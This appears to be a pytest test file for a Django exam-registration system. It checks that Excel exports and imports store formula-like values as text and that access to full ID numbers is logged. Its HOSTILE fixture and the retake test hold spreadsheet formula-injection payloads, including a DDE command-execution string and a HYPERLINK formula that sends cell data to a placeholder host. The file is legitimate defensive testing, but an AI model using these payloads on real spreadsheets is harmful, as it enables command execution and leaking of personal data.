"""Every workbook people open is safe (no cell a candidate or clerk typed becomes a formula), an
import stores a formula-looking cell as the text it is, and every export or view of full ID numbers
is in the access log."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from appraisal.models import BackgroundJob, JobStatus, PersonalDataAccess, PersonalDataKind, RetakeDay
from registration import exports
from registration.import_sheet import HEADERS, build_template, read_rows
from registration.models import Application, Status

HOSTILE = {
    "work_history": "=cmd|' /C calc'!A0",
    "employer_name": '=HYPERLINK("http://example.invalid/?"&E4,"点击")',
    "current_occupation": "+1+1",
    "held_certificate": "@SUM(A1:A9)",
    "professional_title": "-2+3",
    "held_certificate_issuer": "\t=1+1",
}


def formulas(content: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(content))
    return [f"{sheet.title}!{cell.coordinate}" for sheet in workbook.worksheets for row in sheet.iter_rows()
            for cell in row if cell.data_type == "f"]


def texts(content: bytes) -> set:
    workbook = load_workbook(io.BytesIO(content))
    return {cell.value for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row}


@pytest.fixture
def hostile(submitted):
    Application.objects.filter(pk=submitted.pk).update(**HOSTILE)
    return Application.objects.get(pk=submitted.pk)


def test_reg3_registration_report_keeps_hostile_values_as_text(hostile, demo_user):
    content = exports.registration_report(demo_user("staff_nongan"), hostile.scheduled_day)
    assert formulas(content) == []
    assert set(HOSTILE.values()) - {HOSTILE["held_certificate_issuer"]} <= texts(content)


def test_reg4_retake_summary_keeps_hostile_values_as_text(hostile, demo_user, centers):
    retake_day = RetakeDay.objects.first()
    Application.objects.filter(pk=hostile.pk).update(
        is_retake=True, scheduled_day=None, retake_day=retake_day, status=Status.APPROVED,
        name="=HYPERLINK(\"http://x\")", retake_subjects="=1+1", retake_original_ticket="@x",
    )
    content = exports.retake_summary(demo_user("province_admin"), retake_day)
    assert formulas(content) == []
    assert "=1+1" in texts(content)


def test_the_import_template_is_formula_free():
    assert formulas(build_template()) == []


def test_reg3_an_imported_formula_is_stored_as_the_text_it_is():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(list(HEADERS))
    row = ["x"] * len(HEADERS)
    row[0] = '=HYPERLINK("http://example.invalid","点击")'
    sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    rows = read_rows(SimpleUploadedFile("import.xlsx", buffer.getvalue()))
    assert rows[0][1][next(iter(rows[0][1]))] == '=HYPERLINK("http://example.invalid","点击")'


def run_export(client, url, capture):
    """Ask for an export as the export page does; its job runs at the commit (the embedded default)."""
    with capture(execute=True):
        response = client.post(url)
    assert response.status_code == 302 and response.url.startswith("/jobs/")
    return BackgroundJob.objects.get(pk=int(response.url.strip("/").split("/")[-1]))


def downloaded(client, job) -> bytes:
    response = client.get(reverse("job_output", args=[job.pk]))
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_reg3_an_export_run_as_a_job_still_keeps_hostile_values_as_text(
        tmp_media, hostile, client, demo_user, django_capture_on_commit_callbacks):
    client.force_login(demo_user("staff_nongan"))
    url = reverse("registration:bulk_export_report", args=["day", hostile.scheduled_day_id])
    content = downloaded(client, run_export(client, url, django_capture_on_commit_callbacks))
    assert formulas(content) == []
    assert set(HOSTILE.values()) - {HOSTILE["held_certificate_issuer"]} <= texts(content)


def test_every_view_and_export_of_full_id_numbers_is_logged(
        tmp_media, client, submitted, demo_user, django_capture_on_commit_callbacks):
    staff = demo_user("staff_nongan")
    client.force_login(staff)
    material = submitted.materials.first()
    assert client.get(reverse("registration:material_file", args=[material.pk])).status_code == 200
    assert client.get(reverse("registration:application_pdf", args=[submitted.pk])).status_code == 200
    assert client.get(reverse("registration:batch_pdf")).status_code == 200
    export_url = reverse("registration:bulk_export_report", args=["day", submitted.scheduled_day.pk])
    run_export(client, export_url, django_capture_on_commit_callbacks)
    logged = list(PersonalDataAccess.objects.filter(user=staff).order_by("pk"))
    assert [a.kind for a in logged] == [
        PersonalDataKind.MATERIAL_FILE, PersonalDataKind.APPLICATION_FORM, PersonalDataKind.APPLICATION_FORMS_BATCH,
        PersonalDataKind.REGISTRATION_EXPORT,
    ]
    assert all(list(a.records.values_list("application_id", flat=True)) == [submitted.pk] for a in logged)
    assert logged[0].path == reverse("registration:material_file", args=[material.pk])
    # The export is recorded when its job runs, for who asked, with the request that asked for it.
    assert (logged[-1].path, logged[-1].ip_address) == (export_url, "127.0.0.1")


def test_a_candidate_opening_their_own_files_is_not_an_access_to_others_data(client, submitted, candidate):
    client.force_login(candidate)
    assert client.get(reverse("registration:application_pdf", args=[submitted.pk])).status_code == 200
    assert client.get(reverse("registration:material_file", args=[submitted.materials.first().pk])).status_code == 200
    assert not PersonalDataAccess.objects.exists()


def test_masked_exports_are_not_logged(tmp_media, client, submitted, demo_user, django_capture_on_commit_callbacks):
    client.force_login(demo_user("hr_official"))
    url = reverse("registration:bulk_export_report", args=["day", submitted.scheduled_day.pk])
    assert run_export(client, url, django_capture_on_commit_callbacks).status == JobStatus.DONE
    assert not PersonalDataAccess.objects.exists()
